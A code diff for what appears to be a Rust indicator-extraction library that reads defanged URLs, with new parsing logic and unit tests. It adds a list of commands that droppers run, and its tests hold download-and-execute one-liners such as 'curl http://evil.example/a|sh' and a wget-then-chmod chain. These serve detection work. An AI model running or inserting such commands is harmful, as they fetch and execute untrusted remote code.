@@ -79,57 +79,47 @@ pub fn schemeless(refanged: &Refanged<'_>, host: &HostFound) -> Option<Link> {
 fn scheme_before(text: &str, colon: usize, floor: usize) -> Option<(&'static str, usize)> {
     let low = floor.max(colon.saturating_sub(SCHEME_MAX_BYTES));
     let mut at = skip_back(text, colon, low.max(colon.saturating_sub(2)), |b| b == b' ' || b == b'!');
-    let mut letters = [0_u8; SCHEME_MAX_BYTES];
-    let mut count = 0;
-    let mut brackets = 0_usize;
-    let mut start = at;
+    // The letters and their positions, from the last one on.
+    let mut letters = Vec::with_capacity(SCHEME_MAX_BYTES);
+    let mut closed = 0_usize;
     while at > low {
-        let b = byte_before(text, at);
-        if b.is_ascii_alphabetic() || matches!(b, b'*' | b'#') {
-            if let Some(letter) = letters.iter_mut().rev().nth(count) {
-                *letter = b.to_ascii_lowercase();
-                count += 1;
-            }
-            start = at - 1;
-        } else if matches!(b, b']' | b')' | b'}' | b'>') {
-            brackets += 1;
-        } else if matches!(b, b'[' | b'(' | b'{' | b'<') && (brackets > 0 || count < 3) {
-            brackets = brackets.saturating_sub(1);
-            if count > 0 {
-                start = at - 1;
-            }
-        } else {
-            break;
-        }
         at -= 1;
+        match byte(text, at) {
+            b if b.is_ascii_alphabetic() || matches!(b, b'*' | b'#') => letters.push((b.to_ascii_lowercase(), at)),
+            b']' | b')' | b'}' | b'>' => closed += 1,
+            b'[' | b'(' | b'{' | b'<' if closed > 0 || letters.len() < 3 => closed = closed.saturating_sub(1),
+            _ => break,
+        }
     }
-    let letters = letters.get(SCHEME_MAX_BYTES - count..)?;
-    scheme_of(letters).map(|scheme| (scheme, start))
+    let spelled: Vec<u8> = letters.iter().rev().map(|(letter, _)| *letter).collect();
+    let (scheme, length) = scheme_of(&spelled)?;
+    Some((scheme, letters.get(length.checked_sub(1)?)?.1))
 }
 
-/// The scheme that these lower-case letters are meant to end with.
-fn scheme_of(letters: &[u8]) -> Option<&'static str> {
+/// The scheme that these lower-case letters are meant to end with, and how many of them spell it.
+fn scheme_of(letters: &[u8]) -> Option<(&'static str, usize)> {
     // A web scheme may be glued to the word before it.
-    let is_web = |four: &[u8]| matches!(four, [b'h', a, b, b'p'] if is_blotted(*a) && is_blotted(*b));
-    match letters {
-        [.., a, b, c, d, b's'] if is_web(&[*a, *b, *c, *d]) => return Some("https"),
-        [.., a, b, c, d] if is_web(&[*a, *b, *c, *d]) => return Some("http"),
+    let is_web = |four: [u8; 4]| matches!(four, [b'h', a, b, b'p'] if is_blotted(a) && is_blotted(b));
+    match *letters {
+        [.., a, b, c, d, b's'] if is_web([a, b, c, d]) => return Some(("https", 5)),
+        [.., a, b, c, d] if is_web([a, b, c, d]) => return Some(("http", 4)),
         _ => {}
     }
-    match letters {
-        b"xxxx" | b"xxxp" | b"meow" | b"htp" | b"ttp" => Some("http"),
-        b"xxxxx" | b"xxxps" | b"meows" | b"htps" | b"ttps" => Some("https"),
-        b"ftp" | b"fxp" | b"ftx" | b"f*p" => Some("ftp"),
-        b"ftps" | b"fxps" | b"ftxs" | b"f*ps" => Some("ftps"),
-        b"sftp" | b"sfxp" => Some("sftp"),
-        b"tcp" => Some("tcp"),
-        b"udp" => Some("udp"),
-        b"ws" | b"wxs" => Some("ws"),
-        b"wss" => Some("wss"),
-        b"ldap" => Some("ldap"),
-        b"ldaps" => Some("ldaps"),
-        _ => None,
-    }
+    let scheme = match letters {
+        b"xxxx" | b"xxxp" | b"meow" | b"htp" | b"ttp" => "http",
+        b"xxxxx" | b"xxxps" | b"meows" | b"htps" | b"ttps" => "https",
+        b"ftp" | b"fxp" | b"ftx" | b"f*p" => "ftp",
+        b"ftps" | b"fxps" | b"ftxs" | b"f*ps" => "ftps",
+        b"sftp" | b"sfxp" => "sftp",
+        b"tcp" => "tcp",
+        b"udp" => "udp",
+        b"ws" | b"wxs" => "ws",
+        b"wss" => "wss",
+        b"ldap" => "ldap",
+        b"ldaps" => "ldaps",
+        _ => return None,
+    };
+    Some((scheme, letters.len()))
 }
 
 fn is_blotted(b: u8) -> bool {
@@ -163,7 +153,7 @@ impl Reading<'_> {
         let mut at = host_end;
         if byte(text, at) == b':' {
             let port_end = skip(text, at + 1, 5, |b| b.is_ascii_digit());
-            at = if port_end > at + 1 { port_end } else { at };
+            at = if port_end > at + 1 || byte(text, port_end) == b'/' { port_end } else { at };
         }
         let end = match byte(text, at) {
             b'/' | b'?' | b'#' => self.tail_end(at),
@@ -199,7 +189,8 @@ impl Reading<'_> {
                 _ if !c.is_ascii() && is_foreign_end(c) => break,
                 '\\' if !self.has_backslashes && byte(text, at + 1) != b'/' => break,
                 '&' if is_markup_entity(text, at) => break,
-                ',' | ';' if is_scheme_at(text, at + 1) => break,
+                ',' | ';' | '|' if is_scheme_at(text, at + 1) => break,
+                ';' | '|' | '&' if is_command_at(text, at) => break,
                 ',' if is_date_at(text, at + 1) => break,
                 ']' if byte(text, at + 1) == b'(' => break,
                 _ if c.is_ascii() && c as u8 == opener && closer != opener => depth += 1,
@@ -279,6 +270,22 @@ fn is_scheme_at(text: &str, at: usize) -> bool {
     ["http://", "https://", "hxxp://", "hxxps://"].into_iter().any(|scheme| has_word(text, at, scheme))
 }
 
+/// Commands that droppers run on what they have just fetched.
+const COMMANDS: [&str; 14] =
+    ["chmod", "curl", "wget", "sh", "bash", "cd", "rm", "tftp", "ftpget", "busybox", "python", "perl", "sudo", "./"];
+
+/// The end of a command and the start of the next: `;chmod`, `|sh`, `&&./`.
+fn is_command_at(text: &str, at: usize) -> bool {
+    let separator = byte(text, at);
+    let second = skip(text, at, 2, |b| b == separator);
+    let start = skip(text, second, 2, |b| b == b' ');
+    let is_whole = |end: usize| !is_label_byte(byte(text, end)) && !matches!(byte(text, end), b'=' | b'.');
+    (separator != b'&' || second == at + 2)
+        && COMMANDS
+            .into_iter()
+            .any(|command| has_word(text, start, command) && (command == "./" || is_whole(start + command.len())))
+}
+
 /// `2015-09-03`, the next field of a table.
 fn is_date_at(text: &str, at: usize) -> bool {
     let shape = piece(text, at, at + 10);
@@ -313,4 +320,127 @@ pub fn encoded_span(text: &str, at: usize, floor: usize) -> (usize, usize) {
     let low = floor.max(at.saturating_sub(SCHEME_MAX_BYTES));
     let start = skip_back(text, at, low, |b| b.is_ascii_alphabetic());
     (start, skip(text, at, URL_MAX_BYTES, is_encoded))
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::observable::ObservableType;
+
+    fn check(text: &str, expected: &[&str]) {
+        let found = crate::extract(text);
+        let urls: Vec<&str> =
+            found.iter().filter(|found| found.kind() == ObservableType::Url).map(crate::Observable::value).collect();
+        assert_eq!(urls, expected, "{text:?}");
+    }
+
+    #[test]
+    fn schemes_are_read_however_they_are_spelled() {
+        for scheme in
+            ["http", "HTTP", "hxxp", "hXXp", "h**p", "xXxX", "meow", "[http]", "(http)", "http!", "http ", "wordhttp"]
+        {
+            check(&format!("{scheme}://evil.example/a"), &["http://evil.example/a"]);
+        }
+        for scheme in ["https", "hxxps", "hxxp[s]", "http(s)", "xxxxx", "meows"] {
+            check(&format!("{scheme}://evil.example/a"), &["https://evil.example/a"]);
+        }
+        check("fxp://evil.example/a", &["ftp://evil.example/a"]);
+        check("sftp://evil.example/a", &["sftp://evil.example/a"]);
+        check("tcp://192.0.2.7:443", &["tcp://192.0.2.7:443/"]);
+        check("javascript://evil.example/a", &["http://evil.example/a"]);
+    }
+
+    #[test]
+    fn slashes_are_read_however_they_are_spelled() {
+        for text in [
+            "http:/evil.example/a",
+            "http:///evil.example/a",
+            "http:\\\\evil.example\\a",
+            "http:\\evil.example/a",
+            "http:\\/\\/evil.example\\/a",
+            "http:// evil.example/a",
+            "http__evil.example/a",
+            "http%3A%2F%2Fevil%2Eexample%2Fa",
+            "http://evil%2Eexample/a",
+            "evil.example/a",
+        ] {
+            check(text, &["http://evil.example/a"]);
+        }
+    }
+
+    #[test]
+    fn sentences_and_markup_are_no_part_of_a_link() {
+        for text in [
+            "http://evil.example/a.",
+            "http://evil.example/a,",
+            "http://evil.example/a!",
+            "(http://evil.example/a)",
+            "[http://evil.example/a)",
+            "[x](http://evil.example/a) y",
+            "<http://evil.example/a>",
+            "'http://evil.example/a'",
+            "\u{201c}http://evil.example/a\u{201d}",
+            "http://evil.example/a</td>",
+            "http://evil.example/a&quot;",
+            "**http://evil.example/a**",
+            "++http://evil.example/a++",
+            "http://evil.example/a\u{3002}",
+            "http://evil.example/a\u{200b} b",
+            "{\"u\":\"http:\\/\\/evil.example\\/a\"}",
+            "http://evil.example/a]",
+            "http://evil.example/a\\nb",
+            "x,http://evil.example/a,y",
+            "wget http://evil.example/a;chmod +x a",
+            "curl http://evil.example/a|sh",
+            "http://evil.example:/a",
+            "http://evil.example/a,2026-01-01",
+        ] {
+            check(text, &["http://evil.example/a"]);
+        }
+        check("http://evil.example/a,http://evil.example/b", &["http://evil.example/a", "http://evil.example/b"]);
+        check("value,type\nhttp://evil.example/a,url", &["http://evil.example/a"]);
+        check("http://evil.example[Evil]", &["http://evil.example/"]);
+    }
+
+    #[test]
+    fn what_belongs_to_a_link_stays() {
+        for url in [
+            "http://evil.example/x_(y)",
+            "http://evil.example/a;b=1",
+            "http://evil.example/a,b.html",
+            "http://evil.example/a]b",
+            "http://user:pass@evil.example:8443/x#frag",
+            "http://[2001:db8::5]:8080/x",
+            "http://192.0.2.7/a?b=c&d=e",
+            "http://evil.example/?q=%20_#z",
+            "http://abc.onion/test",
+            "http://a_b.evil.example/",
+            "http://evil.nope/",
+            "http://xn--t1e2s3t4.example/a",
+        ] {
+            check(url, &[url]);
+            check(&format!("see ({url})."), &[url]);
+        }
+    }
+
+    #[test]
+    fn links_without_a_host_on_the_internet_are_none() {
+        for text in [
+            "http://",
+            "http://*:80/a",
+            "http://203.*.7/a",
+            "http://intranet/",
+            "http://<host>/a",
+            "http://10",
+            "192.0.2.7/24",
+            "a://b.c",
+        ] {
+            check(text, &[]);
+        }
+    }
+
+    #[test]
+    fn numbers_are_addresses_as_browsers_have_it() {
+        check("http://3221225991/x", &["http://192.0.2.7/x"]);
+        check("http://0xC0000207/", &["http://192.0.2.7/"]);
+    }
 }
